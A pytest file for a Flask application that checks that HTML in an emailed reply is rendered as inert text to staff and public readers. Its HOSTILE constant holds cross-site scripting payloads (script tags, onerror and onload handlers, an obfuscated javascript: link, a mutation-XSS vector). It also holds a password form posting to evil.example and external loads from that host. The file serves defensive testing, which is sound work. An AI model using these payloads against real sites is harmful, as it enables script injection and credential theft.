"""What a company writes is text wherever it is shown, and fetches nothing (bad inputs 72-74)."""

from __future__ import annotations

import pytest
from flask import Flask
from flask.testing import FlaskClient

from campaign.drafting.models import Letter
from campaign.extensions import db
from campaign.replies.reading import read_bytes
from campaign.replies.redaction_rules import Mark, Reason
from tests.builders import publishing as build
from tests.builders import replies as incoming
from tests.builders.accounts import sign_in
from tests.pages import Page, page
from tests.publishing.asking import LARKFIELD
from tests.publishing.test_redacting import publisher, redact

ACTIVE = "script, iframe, object, embed, base, form[action*=evil], math, style, meta[http-equiv]"
HOSTILE = (
    '<html><head><base href="//evil.example/"><meta http-equiv=refresh content="0;//evil.example">'
    '<link rel=stylesheet href="http://evil.example/a.css"><style>@import "//evil.example";</style>'
    '</head><body background="http://evil.example/b.png"><p>We keep it.</p>'
    "<script>alert(1)</script><img src=x onerror=alert(1)><img src='http://evil.example/pixel.gif'>"
    '<a href="java\tscript:alert(1)" target=_blank>here</a><svg onload="alert(1)">'
    "<script>x</script></svg>"
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></table></math>'
    '<form action="//evil.example"><input name="password"></form>'
    '<div style="background:url(http://evil.example/c.png)">Bye.</div></body></html>'
)
MAIL = (
    "From: Pip Larch <pip@larch.example>\nTo: answers@brightwater.example\nSubject: Answer\n"
    f"Content-Type: text/html; charset=utf-8\n\n{HOSTILE}\n"
).encode()


def harmless(shown: Page) -> None:
    """Nothing of theirs acts, loads or leads anywhere."""
    data = 'script[type="application/ld+json"]'  # ours, and nothing that a browser runs
    for one in shown.select(data):
        assert "<" not in one.text
    ours = [
        one
        for one in shown.select(f"{ACTIVE.replace('script', f'script:not({data[6:]})')}")
        if "/static/" not in str(one.attrs.get("src"))
    ]
    assert ours == []
    for one in shown.select("*"):
        for name, value in one.attrs.items():
            assert not name.startswith("on"), (one.name, name)
            assert "evil.example" not in str(value or ""), (one.name, name)
            assert "script:" not in str(value or "").replace("\t", ""), (one.name, name)


def test_a_page_in_a_mail_becomes_text_and_nothing_else() -> None:
    reading = read_bytes(MAIL)
    assert "We keep it." in reading.text
    assert "Bye." in reading.text
    for word in ("alert", "evil.example", "@import", "onerror"):
        assert word not in reading.text
        assert word not in reading.full_text


@pytest.mark.database("sqlite")
def test_a_page_in_a_mail_is_shown_to_staff_as_text(app: Flask, client: FlaskClient) -> None:
    with app.app_context():
        message = incoming.taken_in(MAIL)
        sign_in(client, publisher())
        ref = message.ref
    shown = page(client.get(f"/staff/inbox/{ref}/"))
    assert "We keep it." in shown.text
    harmless(shown)


@pytest.mark.parametrize("redacted", [False, True])
def test_what_looks_like_a_page_is_shown_to_readers_letter_by_letter(
    app: Flask, client: FlaskClient, larkfield: int, redacted: bool
) -> None:
    with app.app_context():
        letter = db.session.get_one(Letter, larkfield)
        reply = build.answered(letter, text=HOSTILE, comment=HOSTILE).id
        if redacted:
            start = HOSTILE.index("We keep")
            redact(reply, Mark(start, start + 11, Reason.CONFIDENTIAL))
    shown = page(client.get(LARKFIELD))
    harmless(shown)
    (words,) = shown.texts("#reply ~ .letter-sheet .verbatim")
    assert "<script>alert(1)</script><img src=x onerror=alert(1)>" in words
    assert ("We keep it." in words) is not redacted
